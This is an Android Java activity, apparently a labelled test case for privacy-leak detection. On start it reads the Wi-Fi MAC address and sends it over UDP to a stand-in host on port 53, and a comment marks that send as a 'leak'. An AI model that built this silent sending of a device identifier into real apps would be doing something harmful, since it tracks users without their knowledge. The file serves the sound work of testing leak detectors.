package ways;

import android.app.Activity;
import android.os.Bundle;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.util.Collections;
import java.util.List;

/** The address of the card, byte by byte. */
public class MacBytes extends Activity {
    static String mac() {
        try {
            List<NetworkInterface> all = Collections.list(NetworkInterface.getNetworkInterfaces());
            for (NetworkInterface one : all) {
                if (!one.getName().equalsIgnoreCase("wlan0")) continue;
                byte[] bytes = one.getHardwareAddress();
                if (bytes == null) return "";
                StringBuilder text = new StringBuilder();
                for (byte b : bytes) text.append(String.format("%02X:", b));
                if (text.length() > 0) text.deleteCharAt(text.length() - 1);
                return text.toString();
            }
        } catch (Exception ignored) {
        }
        return "02:00:00:00:00:00";
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(() -> {
            try (DatagramSocket socket = new DatagramSocket()) {
                byte[] data = mac().getBytes();
                DatagramPacket packet = new DatagramPacket(new byte[64], 64);
                packet.setData(data);
                packet.setSocketAddress(new InetSocketAddress("203.0.113.28", 53));
                socket.send(packet); // leak
                DatagramPacket ping = new DatagramPacket(new byte[64], 64);
                ping.setData(new byte[] {1, 2, 3});
                ping.setSocketAddress(new InetSocketAddress("203.0.113.28", 53));
                socket.send(ping); // no leak
            } catch (Exception ignored) {
            }
        }).start();
    }
}
